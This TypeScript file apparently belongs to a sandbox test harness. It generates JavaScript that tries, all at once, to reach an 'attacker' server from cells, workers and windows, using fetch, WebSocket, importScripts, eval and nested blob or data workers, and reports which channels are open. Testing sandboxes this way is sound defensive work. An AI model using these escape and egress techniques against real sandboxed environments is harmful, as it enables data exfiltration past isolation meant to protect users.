/** Attempts by name. Each is the body of an async function; a value returned means "it worked". */
export type Attempts = Record<string, string>;

export interface Targets {
	/** A stranger's server. */
	attacker: string;
	/** Its address for the packets of WebRTC. */
	stun: string;
	/** The site itself. */
	site: string;
	/** Address of a blob that the page has made; it holds the seed. */
	blob: string;
}

/** Paths that lead to the site carry this, so that its server can tell them from the page's own requests. */
export const mark = 'escape-attempt';

/**
 * JavaScript that makes all attempts at once and calls `report` with what each gave: "OPEN …" or "closed …".
 * It runs as a cell, in a worker and in a window.
 *
 * @param patience an attempt without an answer after so many milliseconds has failed
 */
export function attackWith(
	attempts: Attempts,
	{ attacker, stun, site, blob }: Targets,
	report: string,
	patience = 3000
): string {
	const list = Object.entries(attempts).map(
		([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`
	);
	return `{
	const stun = ${JSON.stringify(stun)};
	const site = ${JSON.stringify(site)};
	const blob = ${JSON.stringify(blob)};
	const there = (path) => ${JSON.stringify(attacker)} + '/' + path;
	const here = (path) => site + '/${mark}-' + path;
	${helpers}
	const inTime = (work) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), ${patience}))]);
	const attempts = { ${list.join(',\n')} };
	const results = {};
	await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
		try { results[name] = 'OPEN ' + String(await inTime(attempt())).slice(0, 300); }
		catch (error) { results[name] = 'closed ' + String(error?.message ?? error).slice(0, 100); }
	}));
	(${report})(results);
}`;
}

/** What attempts call. */
const helpers = `
	const asked = (request) => new Promise((resolve, reject) => {
		request.onsuccess = () => resolve(request.result);
		request.onerror = () => reject(request.error);
	});
	const flip = (first, then) => { let turn = 0; return () => (turn++ === 0 ? first : then); };
	const blobOf = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
	const dataOf = (text) => 'data:text/javascript,' + encodeURIComponent(text);
	// The script of a worker inside the worker: it tries every way out that it has, and tells when one works.
	const sends = (path) => 'const tell = () => postMessage("fetched"), not = () => 0, to = ' + JSON.stringify(there(path)) + ', modules = ' + JSON.stringify(there('module-' + path)) + ';' +
		'fetch(to).then(tell, not); fetch(to, { mode: "no-cors" }).then(tell, not); import(modules).then(tell, not);' +
		'try { const socket = new WebSocket(to.replace("http", "ws")); socket.onopen = tell; } catch {}' +
		'try { importScripts(modules); tell(); } catch {}' +
		'try { eval("tell()"); } catch {}' +
		'setTimeout(() => postMessage(""), 1000);';
	const nested = (url, options) => new Promise((resolve, reject) => {
		const worker = new Worker(url, options);
		worker.onmessage = ({ data }) => { worker.terminate(); data === 'fetched' ? resolve(data) : reject(new Error('nested worker: no network')); };
		worker.onerror = (event) => { event.preventDefault(); reject(new Error('nested worker refused')); };
	});
	// A worker that starts such a worker.
	const nests = (kind, path) => 'const text = ' + JSON.stringify(sends(path)) + ', worker = new Worker(' +
		(kind === 'blob' ? 'URL.createObjectURL(new Blob([text]))' : '"data:text/javascript," + encodeURIComponent(text)') +
		'); worker.onmessage = ({ data }) => postMessage(data); worker.onerror = () => postMessage("");';`;
